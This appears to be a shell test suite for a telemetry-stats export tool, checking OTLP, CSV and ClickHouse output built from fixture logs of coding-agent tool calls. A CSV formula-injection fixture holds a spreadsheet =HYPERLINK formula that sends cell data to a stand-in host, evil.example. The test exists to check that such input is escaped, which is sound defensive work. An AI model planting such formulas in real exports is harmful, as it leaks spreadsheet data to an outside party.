#!/bin/sh
# telemetry-stats export: OTLP JSON checked against the OTLP JSON mapping and CSV against RFC 4180,
# record by record against the source logs (tests/cli/export_check.py), on a fixture of awkward
# values, the analyzer's fixtures and the real session's log; the number of calls exported equals
# `stats --json` total_calls under the same filters; batching; --output; the error paths.
# usage: export.sh STATS JSONL_CHECK DATA_DIR
set -eu
. "$(dirname "$0")/lib.sh"
STATS=$(abs_path "$1") CHECK=$(abs_path "$2") DATA=$3
setup_home
NOW=2026-11-22T08:00:00.000Z
NOW_NS=1795334400000000000

checker() { python3 "$HERE/export_check.py" "$@"; }

if ! command -v python3 > /dev/null 2>&1; then
  not_ok "the export checks need python3 (scripts/test installs it)"
  tap_done
  exit 1
fi

# Awkward values: commas, quotes, newlines, CR, tabs, control characters, escapes, non-ASCII, big
# and fractional numbers, two agents, every outcome; and lines that are not calls or not records.
F=$TMP/awkward.jsonl
cat > "$F" << 'EOF'
{"v":1,"timestamp":"2026-11-21T14:11:16.123Z","event":"PostToolUse","agent":"claude-code","session_id":"s1","prompt_id":"p1","tool_use_id":"t1","tool_name":"Bash","outcome":"success","error":null,"exit_code":null,"latency_ms":12,"latency_source":"duration_ms","params":{"command":"echo \"a,b\"\nprintf 'x\ty'","description":"quotes, commas"},"params_fp":"00112233445566778899aabbccddeeff","response_bytes":123456789012,"redactions":0,"truncations":1,"cwd":"/home/u/my,project","transcript_path":"/t/s1.jsonl","permission_mode":"default","agent_id":null,"agent_type":null}
{"v":1,"timestamp":"2026-11-21T14:11:17.000Z","event":"PostToolUseFailure","agent":"claude-code","session_id":"s1","prompt_id":"p1","tool_use_id":"t2","tool_name":"Bash","outcome":"failure","error":"Exit code 2\nls: cannot access 'a,b': \"No such file\"\r\n\u0001end","exit_code":2,"latency_ms":3.25,"latency_source":"pre_post","params":{"command":"ls 'a,b'"},"params_fp":"ffeeddccbbaa99887766554433221100","response_bytes":null,"redactions":1,"truncations":0,"cwd":"/home/u/p","transcript_path":"/t/s1.jsonl","permission_mode":"acceptEdits","agent_id":"sub1","agent_type":"Explore"}
{"v":1,"timestamp":"2026-11-21T14:11:18.000Z","event":"PostToolBatch","agent":"claude-code","session_id":"s1","prompt_id":"p1","tool_use_id":null,"tool_name":null,"outcome":null,"error":null,"exit_code":null,"latency_ms":null,"latency_source":null,"params":null,"params_fp":null,"response_bytes":null,"redactions":0,"truncations":0,"cwd":"/home/u/p","transcript_path":"/t/s1.jsonl","permission_mode":"default","agent_id":null,"agent_type":null,"tool_use_ids":["t1","t2"],"tool_names":["Bash","Bash"]}
{"v":1,"timestamp":"2026-11-21T14:11:19.500Z","event":"PostToolBatch","agent":"claude-code","session_id":"s1","prompt_id":"p1","tool_use_id":"t3","tool_name":"Edit","outcome":"failure","error":"String to replace not found in file.\nString: caf\u00e9 \ud83d\ude00 \\ \"q\"","exit_code":null,"latency_ms":null,"latency_source":null,"params":{"file_path":"/p/\u00e9.txt","old_string":"a\u0000b","new_string":"[1,2]"},"params_fp":null,"response_bytes":null,"redactions":0,"truncations":0,"cwd":"/home/u/p","transcript_path":null,"permission_mode":null,"agent_id":null,"agent_type":null}
{"v":1,"timestamp":"2026-11-21T14:12:00.000Z","event":"PostToolUseFailure","agent":"gemini-cli","session_id":"g1","prompt_id":null,"tool_use_id":"g-1","tool_name":"run_shell_command","outcome":"interrupted","error":"interrupted by the user","exit_code":null,"latency_ms":0,"latency_source":"duration_ms","params":{},"params_fp":null,"response_bytes":0,"redactions":0,"truncations":0,"cwd":"/g","transcript_path":null,"permission_mode":null,"agent_id":null,"agent_type":null}
{"v":1,"timestamp":"2026-11-21T14:12:01.000Z","event":"SessionStart","agent":"claude-code","session_id":"s2","prompt_id":null,"tool_use_id":null,"tool_name":null,"outcome":null,"error":null,"exit_code":null,"latency_ms":null,"latency_source":null,"params":null,"params_fp":null,"response_bytes":null,"redactions":0,"truncations":0,"cwd":"/p","transcript_path":null,"permission_mode":null,"agent_id":null,"agent_type":null}
{"v":1,"timestamp":"2026-11-21T14:12:02.000Z","event":"PostToolUseFailure","agent":"claude-code","session_id":"s2","prompt_id":null,"tool_use_id":"t9","tool_name":"Read","outcome":"failure","error":null,"exit_code":null,"latency_ms":null,"latency_source":null,"params":null,"params_fp":null,"response_bytes":null,"redactions":0,"truncations":0,"cwd":null,"transcript_path":null,"permission_mode":null,"agent_id":null,"agent_type":null,"parse_error":"invalid_json","input_bytes":4096}
this line is not a record
{"v":1,"timestamp":"2026-11-21T14:12:03.000Z","event":"PostToolUse","agent":"gemini-cli","session_id":"g1","prompt_id":null,"tool_use_id":"g-2","tool_name":"read_file","outcome":"success","error":null,"exit_code":null,"latency_ms":1500.5,"latency_source":"duration_ms","params":{"absolute_path":"/g/a.txt"},"params_fp":null,"response_bytes":17,"redactions":0,"truncations":0,"cwd":"/g","transcript_path":null,"permission_mode":null,"agent_id":null,"agent_type":null}
{"v":1,"timestamp":"2026-11-21T14:12:04.000Z","event":"PostToolUse","agent":"claude-code","sess
EOF

# ---- OTLP JSON ----
run export --log "$F" --now "$NOW" --format otlp-json
check "export --format otlp-json: exit 0" [ "$RC" = 0 ]
cp "$TMP/out" "$TMP/awkward.otlp"
checker otlp "$TMP/awkward.otlp" "$F" "$NOW_NS" 1000 > "$TMP/tap" || true
tap_merge < "$TMP/tap"
check "otlp: 6 calls (not the batch, the SessionStart or the broken lines)" \
  [ "$(checker count otlp "$TMP/awkward.otlp")" = 6 ]
check "otlp: one line (an ExportLogsServiceRequest) for 6 calls" \
  [ "$(wc -l < "$TMP/awkward.otlp" | tr -d ' ')" = 1 ]
check "otlp: 2026-11-21T14:11:16.123Z is timeUnixNano \"1795270276123000000\"" \
  grep -qF '"timeUnixNano":"1795270276123000000"' "$TMP/awkward.otlp"
check "otlp: response_bytes 123456789012 is {\"intValue\":\"123456789012\"}" \
  grep -qF '{"key":"response_bytes","value":{"intValue":"123456789012"}}' "$TMP/awkward.otlp"
check "otlp: latency_ms 3.25 is {\"doubleValue\":3.25}" \
  grep -qF '{"key":"latency_ms","value":{"doubleValue":3.25}}' "$TMP/awkward.otlp"
check "otlp: a failure is severityNumber 17, ERROR" \
  grep -qF '"severityNumber":17,"severityText":"ERROR","body":{"stringValue":"Bash failure"}' \
  "$TMP/awkward.otlp"
check "otlp: the two agents are two resources" \
  sh -c '[ "$(grep -o "\"key\":\"agent\",\"value\":{\"stringValue\":\"gemini-cli\"}}\]}" "$1" | wc -l)" = 1 ]' \
  sh "$TMP/awkward.otlp"
check "otlp: the malformed lines are reported on stderr" grep -q "2 malformed or torn lines skipped" \
  "$TMP/err"
run export --log "$F" --now "$NOW" --batch 2
checker otlp "$TMP/out" "$F" "$NOW_NS" 2 > "$TMP/tap" || true
tap_merge < "$TMP/tap"
check "--batch 2: 3 lines for 6 calls" [ "$(wc -l < "$TMP/out" | tr -d ' ')" = 3 ]

# ---- OTLP traces (checked against the official definitions in tests/e2e/otlp.sh) ----
run export --log "$F" --format otlp-traces
check "export --format otlp-traces: exit 0, one line" \
  sh -c '[ "$1" = 0 ] && [ "$(wc -l < "$2")" = 1 ]' sh "$RC" "$TMP/out"
cp "$TMP/out" "$TMP/awkward.traces"
check "otlp-traces: 6 execute_tool spans, 3 sessions and 1 subagent as invoke_agent spans" \
  sh -c '[ "$(grep -o "\"name\":\"execute_tool [^\"]*\"" "$1" | wc -l)" = 6 ] &&
    [ "$(grep -o "\"name\":\"invoke_agent [^\"]*\"" "$1" | wc -l)" = 4 ]' sh "$TMP/out"
check "otlp-traces: the subagent's span is 'invoke_agent Explore'" \
  grep -qF '"name":"invoke_agent Explore"' "$TMP/out"
check "otlp-traces: no parameters or error text without --include-params" \
  sh -c '! grep -q "gen_ai.tool.call.arguments\|cannot access\|\"message\":" "$1"' sh "$TMP/out"
run export --log "$F" --format otlp-traces
check "otlp-traces: the same log gives the same spans" cmp -s "$TMP/out" "$TMP/awkward.traces"
run export --log "$F" --format otlp-traces --include-params
check "--include-params: the redacted parameters and the error message" \
  sh -c 'grep -qF "{\"key\":\"gen_ai.tool.call.arguments\",\"value\":{\"stringValue\":\"{\\\"command\\\":\\\"ls '"'"'a,b'"'"'\\\"}\"}}" "$1" &&
    grep -qF "\"status\":{\"code\":2,\"message\":\"Exit code 2\\nls: cannot access" "$1"' sh "$TMP/out"
run export --log "$F" --format otlp-traces --batch 2 --output "$TMP/t.jsonl"
check "otlp-traces --batch 2 --output: 10 spans in 5 lines, said on stderr" \
  sh -c '[ "$(wc -l < "$2")" = 5 ] && grep -q "10 spans, 5 lines, written to" "$1"' sh "$TMP/err" \
  "$TMP/t.jsonl"
run export --log "$F" --format csv --include-params
check "--include-params without otlp-traces: exit 2" [ "$RC" = 2 ]

# ---- CSV ----
run export --log "$F" --format csv
check "export --format csv: exit 0" [ "$RC" = 0 ]
cp "$TMP/out" "$TMP/awkward.csv"
checker csv "$TMP/awkward.csv" "$F" > "$TMP/tap" || true
tap_merge < "$TMP/tap"
check "csv: a field with a comma is quoted" grep -qF ',"/home/u/my,project",' "$TMP/awkward.csv"
check "csv: quotes are doubled" grep -qF "\"Exit code 2" "$TMP/awkward.csv"
check "csv: the quoted error keeps its line breaks and doubled quotes" \
  grep -qF "ls: cannot access 'a,b': \"\"No such file\"\"" "$TMP/awkward.csv"
check "csv: params is its JSON text, quoted" grep -qF '"{""command"":""ls '"'"'a,b'"'"'""}"' \
  "$TMP/awkward.csv"

# Formula injection (OWASP): text that a spreadsheet may run gets a ' in front, and quotes; text
# that starts with ' gets one more, so one leading ' comes off every text field to read it back.
L='"v":1,"event":"PostToolUseFailure","agent":"claude-code","outcome":"failure"'
cat > "$TMP/formula.jsonl" << EOF
{$L,"timestamp":"2026-11-21T14:00:00.000Z","session_id":"s","tool_name":"Bash","error":"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")","exit_code":-1,"latency_ms":-0}
{$L,"timestamp":"2026-11-21T14:00:01.000Z","session_id":"+s","tool_name":"@SUM(A1:A9)","error":"-2+3"}
{$L,"timestamp":"2026-11-21T14:00:02.000Z","session_id":"s","tool_name":"\tcmd","error":"\r=1+1","cwd":"'=not a formula"}
{$L,"timestamp":"2026-11-21T14:00:03.000Z","session_id":"s","tool_name":"Read","error":"a =1 inside is fine","cwd":"/p"}
EOF
run export --log "$TMP/formula.jsonl" --format csv
cp "$TMP/out" "$TMP/formula.csv"
checker csv "$TMP/formula.csv" "$TMP/formula.jsonl" |
  sed 's/^\(\(not \)\{0,1\}ok - \)/\1formula: /' > "$TMP/tap" || true
tap_merge < "$TMP/tap"
Q="'"
check "csv: =HYPERLINK(...) is written '=HYPERLINK(...), quoted" \
  grep -qF ",\"$Q=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",-1," "$TMP/formula.csv"
check "csv: +, @, -, tab and CR starts get a ' too" \
  sh -c 'grep -qF ",\"$2+s\"," "$1" && grep -qF ",\"$2@SUM(A1:A9)\"," "$1" &&
    grep -qF ",\"$2-2+3\"," "$1" && grep -qF "$(printf ",\"%s\tcmd\"," "$2")" "$1" &&
    grep -qF "$(printf ",\"%s\r=1+1\"," "$2")" "$1"' sh "$TMP/formula.csv" "$Q"
check "csv: a value starting with ' gets one more; numbers and other text are left alone" \
  sh -c 'grep -qF ",\"$2$2=not a formula\"," "$1" && grep -qF ",a =1 inside is fine," "$1" &&
    grep -qF ",-1,-0," "$1"' sh "$TMP/formula.csv" "$Q"

# ---- the analyzer's fixtures and the real session ----
for log in "$DATA/stats/fixture.jsonl" "$DATA/stats/old-format.jsonl" \
  "$DATA/expected/claude-code-2.1.197.jsonl"; do
  name=$(basename "$log")
  "$STATS" export --log "$log" --now "$NOW" > "$TMP/x.otlp" 2> /dev/null
  checker otlp "$TMP/x.otlp" "$log" "$NOW_NS" 1000 | sed "s/^\(\(not \)\{0,1\}ok - \)/\1$name: /" \
    > "$TMP/tap" || true
  tap_merge < "$TMP/tap"
  "$STATS" export --log "$log" --format csv > "$TMP/x.csv" 2> /dev/null
  checker csv "$TMP/x.csv" "$log" | sed "s/^\(\(not \)\{0,1\}ok - \)/\1$name: /" > "$TMP/tap" || true
  tap_merge < "$TMP/tap"
done

# ---- the same calls as `stats` counts, filter by filter ----
S=$DATA/stats/fixture.jsonl
for filters in "" "--tool Bash" "--tool Edit" "--session sB" "--project /p/a" \
  "--since 2026-11-20T10:03:00Z" "--until 2026-11-20T10:03:00Z" \
  "--since 1h --now 2026-11-20T10:30:00Z" "--since 2026-11-21"; do
  # shellcheck disable=SC2086
  "$STATS" stats --log "$S" --json $filters > "$TMP/stats.json"
  want=$("$CHECK" get "$TMP/stats.json" total_calls)
  # shellcheck disable=SC2086
  "$STATS" export --log "$S" $filters > "$TMP/f.otlp" 2> /dev/null
  # shellcheck disable=SC2086
  "$STATS" export --log "$S" --format csv $filters > "$TMP/f.csv" 2> /dev/null
  # shellcheck disable=SC2086
  "$STATS" export --log "$S" --format clickhouse $filters > "$TMP/f.rows" 2> /dev/null
  rows=$(wc -l < "$TMP/f.rows" | tr -d ' ')
  check "filters '${filters:-none}': otlp, csv and clickhouse export the $want calls stats counts" \
    [ "$(checker count otlp "$TMP/f.otlp")/$(checker count csv "$TMP/f.csv")/$rows" = \
    "$want/$want/$want" ]
done
"$STATS" stats --log "$F" --json > "$TMP/stats.json"
check "the awkward fixture: stats counts the same 6 calls" \
  [ "$("$CHECK" get "$TMP/stats.json" total_calls)" = 6 ]

# ---- a bigger log: lines stay under 1 MiB and 1000 records ----
python3 - "$TMP/big.jsonl" << 'EOF'
import json, sys
with open(sys.argv[1], "w") as f:
    for i in range(2500):
        f.write(json.dumps({"v": 1, "timestamp": "2026-11-21T10:%02d:%02d.%03dZ" % (i // 60 % 60, i % 60, i % 1000),
            "event": "PostToolUse", "agent": "claude-code", "session_id": "big", "prompt_id": None,
            "tool_use_id": "b%d" % i, "tool_name": "Bash", "outcome": "success", "error": None,
            "exit_code": None, "latency_ms": i, "latency_source": "duration_ms",
            "params": {"command": "echo %d %s" % (i, "x" * 600)}, "params_fp": None,
            "response_bytes": 10, "redactions": 0, "truncations": 0, "cwd": "/b",
            "transcript_path": None, "permission_mode": None, "agent_id": None,
            "agent_type": None}, separators=(",", ":")) + "\n")
EOF
run export --log "$TMP/big.jsonl" --now "$NOW"
checker otlp "$TMP/out" "$TMP/big.jsonl" "$NOW_NS" 1000 | sed 's/^\(\(not \)\{0,1\}ok - \)/\12500 calls: /' \
  > "$TMP/tap" || true
tap_merge < "$TMP/tap"
check "2500 calls of ~1.6 KB: more than 3 lines (the 1 MiB bound cuts before 1000 records)" \
  [ "$(wc -l < "$TMP/out" | tr -d ' ')" -gt 3 ]
run export --log "$TMP/big.jsonl" --now "$NOW" --batch 1000000
check "--batch 1000000: still no line past 1 MiB" \
  sh -c '[ "$(awk "length(\$0) >= 1048576" "$1" | wc -l)" = 0 ]' sh "$TMP/out"

# ---- --output, empty exports, errors ----
run export --log "$F" --now "$NOW" --output "$TMP/out.otlp.jsonl"
check "--output: exit 0, nothing on stdout, the file is what stdout had" \
  sh -c '[ "$1" = 0 ] && [ ! -s "$2" ] && cmp -s "$3" "$4"' sh "$RC" "$TMP/out" \
  "$TMP/out.otlp.jsonl" "$TMP/awkward.otlp"
check "--output: the file is 0600, no temporary file left" \
  sh -c '[ "$(stat -c %a "$1")" = 600 ] && [ -z "$(find "$2" -name "out.otlp.jsonl.tmp-*")" ]' \
  sh "$TMP/out.otlp.jsonl" "$TMP"
check "--output: a summary on stderr" grep -q "6 calls, 1 lines, written to" "$TMP/err"
run export --log "$F" --format=csv --output="$TMP/out.csv"
check "--format=csv --output=FILE" cmp -s "$TMP/out.csv" "$TMP/awkward.csv"
run export --log "$F" --since 2030-01-01
check "no calls: otlp-json writes nothing, exit 0" sh -c '[ "$1" = 0 ] && [ ! -s "$2" ]' sh "$RC" \
  "$TMP/out"
run export --log "$F" --since 2030-01-01 --format csv
check "no calls: csv writes the header alone" \
  sh -c '[ "$1" = 0 ] && [ "$(wc -l < "$2")" = 1 ] && grep -q "^timestamp,event,agent," "$2"' sh \
  "$RC" "$TMP/out"
run export --log "$F" --output "$TMP/no/such/dir/x.jsonl"
check "--output in a missing directory: exit 1" [ "$RC" = 1 ]
# --output replaces a file by a rename: never a device node, a FIFO or a symbolic link (issue 8).
mkdir "$TMP/odd"
mkfifo "$TMP/odd/fifo"
echo keep > "$TMP/odd/target"
ln -s "$TMP/odd/target" "$TMP/odd/link"
odd="fifo link"
if mknod "$TMP/odd/null" c 1 3 2> /dev/null; then odd="$odd null"; fi
for o in $odd; do
  before=$(ls -l "$TMP/odd/$o" | cut -c1)
  run export --log "$F" --output "$TMP/odd/$o"
  after=$(ls -l "$TMP/odd/$o" | cut -c1)
  check "--output onto a $o: exit 1, 'not a regular file: not replaced', still a $o" sh -c \
    '[ "$1" = 1 ] && grep -q "not a regular file: not replaced" "$2" && [ "$3" = "$4" ]' \
    sh "$RC" "$TMP/err" "$before" "$after"
done
check "--output onto a symbolic link: its target is untouched" grep -qx keep "$TMP/odd/target"
check "--output onto a FIFO: no temporary file left" \
  sh -c '[ -z "$(ls "$1" | grep tmp-)" ]' sh "$TMP/odd"
run export --log "$F" --output "$TMP/odd"
check "--output onto a directory: exit 1, cannot create it" \
  sh -c '[ "$1" = 1 ] && grep -qx "telemetry-stats export: cannot create .*/odd.: Is a directory" "$2"' \
  sh "$RC" "$TMP/err"
run export --log "$TMP/missing.jsonl"
check "a missing --log: exit 1" [ "$RC" = 1 ]
check_value_missing export --log "$F" --batch
run export --log "$F" --host ''
check "an own option with an empty value: exit 2, said" \
  grep -qx "telemetry-stats export: an empty value for '--host'" "$TMP/err"
run export --log "$F" --format csv --session --format
check "--session --format: a session named --format (the CSV header alone), the format kept" \
  sh -c '[ "$1" = 0 ] && [ "$(wc -l < "$2")" = 1 ] && grep -q "^timestamp,event," "$2"' \
  sh "$RC" "$TMP/out"
run export --log "$F" --format json
check "--format json: exit 2" [ "$RC" = 2 ]
run export --log "$F" --json
check "--json: exit 2 (a report option)" [ "$RC" = 2 ]
run export --log "$F" --batch 0
check "--batch 0: exit 2" [ "$RC" = 2 ]
run export --log "$F" --output
check "--output without a value: exit 2" [ "$RC" = 2 ]
run export --log "$F" --tool --format
check "a shared option's value is never taken for an option" \
  sh -c '[ "$1" = 0 ] && [ ! -s "$2" ]' sh "$RC" "$TMP/out"
run export --log "$F" --host build-7 --user ci --now "$NOW"
check "--host and --user set the resource" \
  grep -qF '{"key":"host.name","value":{"stringValue":"build-7"}},{"key":"user.name","value":{"stringValue":"ci"}}' \
  "$TMP/out"
# ClickHouse rows (tests/e2e/clickhouse.sh loads them into a real server).
run export --log "$F" --format clickhouse --host build-7 --user ci --output "$TMP/rows.jsonl"
check "--format clickhouse --output: exit 0, '6 calls, 6 rows' on stderr" \
  sh -c '[ "$1" = 0 ] && grep -q "6 calls, 6 rows, written to" "$2"' sh "$RC" "$TMP/err"
check "--format clickhouse: every line a JSON object with the 30 columns, host and user set" \
  python3 -c 'import json, sys
rows = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]
assert len(rows) == 6 and all(len(r) == 30 for r in rows)
assert all(r["host"] == "build-7" and r["user"] == "ci" for r in rows)
assert [r["seq"] for r in rows] == list(range(6))
assert rows[0]["params"] == json.dumps({"command": "echo \"a,b\"\nprintf \x27x\ty\x27",
    "description": "quotes, commas"}, separators=(",", ":"))
assert rows[4]["parse_error"] == "invalid_json" and rows[4]["latency_ms"] is None
assert rows[5]["latency_ms"] == 1500.5 and rows[5]["agent"] == "gemini-cli"' "$TMP/rows.jsonl"
run export --log "$F" --format clickhouse --host build-7 --user ci --batch 1
check "--format clickhouse: stdout holds the same rows; --batch changes nothing" \
  cmp -s "$TMP/out" "$TMP/rows.jsonl"
run export --log "$F" --format ClickHouse
check "--format ClickHouse: exit 2, the formats named" \
  sh -c '[ "$1" = 2 ] && grep -q "otlp-json, otlp-traces, csv or clickhouse" "$2"' sh "$RC" "$TMP/err"
run export --help
check "--help names --format clickhouse" grep -q "clickhouse ClickHouse JSONEachRow" "$TMP/out"
run export --help
check "--help: exit 0, the usage" sh -c '[ "$1" = 0 ] && grep -q "^usage: telemetry-stats export" "$2"' \
  sh "$RC" "$TMP/out"

tap_done
